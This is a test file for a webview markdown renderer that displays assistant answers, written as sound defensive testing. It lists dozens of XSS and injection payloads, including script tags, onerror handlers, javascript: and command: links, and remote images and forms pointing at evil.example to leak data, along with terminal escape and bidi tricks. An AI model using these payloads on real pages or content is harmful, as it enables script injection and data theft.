// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';

import { blocks, rendered, sanitised } from '../../src/webview/markdown.js';
import { visible } from '../../src/webview/visible.js';

function page(text: string): HTMLElement {
  const env = {};
  const root = document.createElement('div');
  root.append(rendered(blocks(visible(text), env), env));
  return root;
}

/** What an answer may hold to do harm, by name. */
const INJECTIONS: Record<string, string> = {
  'a script': '<script>globalThis.harmed = 1</script>',
  'a script in a code span': '`<script>globalThis.harmed = 1</script>`',
  'a script in a fence': '```html\n<script>globalThis.harmed = 1</script>\n```',
  'a script after a fence that is never closed': '```\n</code></pre><script>globalThis.harmed = 1</script>',
  'an event handler': '<img src=x onerror="globalThis.harmed = 1">',
  'a drawing with a handler': '<svg onload="globalThis.harmed = 1"><animate onbegin="x()"></svg>',
  'mathematics around a style': '<math><mtext><table><mglyph><style><img src=x onerror=x()></style>',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a form': '<form action="https://evil.example"><input name=q><button>go</button></form>',
  'a base address': '<base href="https://evil.example/">',
  'a style': '<style>body { background: url(https://evil.example/?a) }</style>',
  'a style attribute': '<p style="background: url(https://evil.example)">x</p>',
  'a policy of its own': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a remote image': '![x](https://evil.example/a.png?q=secret)',
  'a remote image by reference': '![x][i]\n\n[i]: https://evil.example/a.png',
  'an image in a link': '[![x](https://evil.example/a.png)](https://evil.example)',
  'an image of data': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'a command link': '[run](command:workbench.action.terminal.new)',
  'a command link in disguise': '[run](&#99;ommand:workbench.action.terminal.new)',
  'a script link': '[x](javascript:globalThis.harmed=1)',
  'a script link with a tab': '[x](java\tscript:globalThis.harmed=1)',
  'a script link in entities': '[x](&#x6A;avascript:alert&#40;1&#41;)',
  'a script link by reference': '[x][j]\n\n[j]: javascript:alert(1)',
  'an autolink': '<javascript:alert(1)>',
  'a data link': '[x](data:text/html,<script>alert(1)</script>)',
  'a file link': '[x](file:///etc/passwd)',
  'an editor link': '[x](vscode://ms.x/run?a)',
  'a link without a scheme': '[x](//evil.example/a.js)',
  'quotes in a title': '[x](https://a.example "\\"><img src=x onerror=alert(1)>")',
  'quotes in an address': '[x](https://a.example/"onmouseover="alert(1))',
  'markup in the name of a language': '```"><img src=x onerror=alert(1)>\ncode\n```',
  'markup in the name of a file': '```py src/"><img/src=x/onerror=alert(1)>.py\ncode\n```',
  'a closing fence inside': '```html\n<!--\n```\n<script>globalThis.harmed = 1</script>',
  'a template': '<template><script>globalThis.harmed = 1</script></template>',
  'clobbered names': '<a id="root" name="body">x</a><form id="attributes">',
  'a null in a tag': '<scr\u0000ipt>globalThis.harmed = 1</scr\u0000ipt>',
};

describe('an answer that wants to do harm', () => {
  it.each(Object.entries(INJECTIONS))('%s is shown, not obeyed', (_, text) => {
    const root = page(text);
    document.body.replaceChildren(root);

    const forbidden = 'script,img,svg,math,iframe,form,input,button,base,style,meta,link,object,embed,template,audio,video';
    expect(root.querySelectorAll(forbidden)).toHaveLength(0);
    for (const element of root.querySelectorAll('*')) {
      for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^style$|^id$|^name$|^src/);
    }
    for (const link of root.querySelectorAll('a')) {
      expect(link.getAttribute('href')).toMatch(/^(?:https?:|mailto:|#$)/);
    }
    expect((globalThis as { harmed?: number }).harmed).toBeUndefined();
    expect(root.textContent).not.toBe('');
  });

  it('comes to nothing even if the renderer let it through', () => {
    const root = document.createElement('div');
    root.append(sanitised(Object.values(INJECTIONS).join('\n')));

    expect(root.querySelectorAll('script,img,svg,math,iframe,form,style,meta,base')).toHaveLength(0);
    expect(root.innerHTML).not.toMatch(/javascript:|command:|onerror=/);
  });

  it('shows codes of terminals and marks that turn letters round as what they are', () => {
    expect(page('\u001b[2J\u001b]52;c;aGk=\u0007red').textContent.trim()).toBe('\\x1b[2J\\x1b]52;c;aGk=\\x07red');
    expect(page('`access\u202e\u2066level`').querySelector('code')?.textContent).toBe('access\\u202e\\u2066level');
    expect(page('a\u200bb\ud800c\u{e0041}').textContent.trim()).toBe('a\\u200bb\\ud800c\\U000e0041');
  });

  it('leaves other scripts, accents and emoji alone', () => {
    expect(page('שלום, naïve 日本 👩‍💻').textContent.trim()).toBe('שלום, naïve 日本 👩‍💻');
  });
});

describe('markdown', () => {
  it('keeps an open fence as code', () => {
    const root = page('before\n\n```python\nx = 1 < 2\n**no**');

    expect(root.querySelector('pre')?.dataset.language).toBe('python');
    expect(root.querySelector('pre')?.textContent).toBe('x = 1 < 2\n**no**');
  });

  it('colours code, and leaves what is long or has endless lines plain', () => {
    expect(page('```python\ndef f(): pass\n```').querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(page(`\`\`\`python\ndef f(): pass\n${'x'.repeat(40_000)}\n\`\`\``).querySelector('span')).toBeNull();
    expect(page('```nolanguage\ndef f(): pass\n```').querySelector('span')).toBeNull();
  });

  it('opens files of the project and pages by their full address', () => {
    const [file, web] = page('[a](src/a.py#L10-L12) [b](https://b.example/?q)').querySelectorAll('a');

    expect(file?.dataset).toMatchObject({ path: 'src/a.py', line: '10' });
    expect(file?.getAttribute('href')).toBe('#');
    expect(web?.title).toBe('https://b.example/?q');
  });

  it('has tables with sides, and headings below those of the page', () => {
    const root = page('# Top\n\n| a | b |\n|---|--:|\n| 1 | 2 |');

    expect(root.querySelector('h3')?.textContent).toBe('Top');
    expect(root.querySelector('td.align-right')?.textContent).toBe('2');
    expect(root.innerHTML).not.toContain('style');
  });

  it('ends for texts that are made to be slow', () => {
    for (const part of ['[', '*a_', '`', '> ', '![](', '<a ', '- ', '|-', '&#', '[a](', '\\[']) {
      expect(page(part.repeat(4_000)).childNodes.length).toBeGreaterThan(0);
    }
  });
});
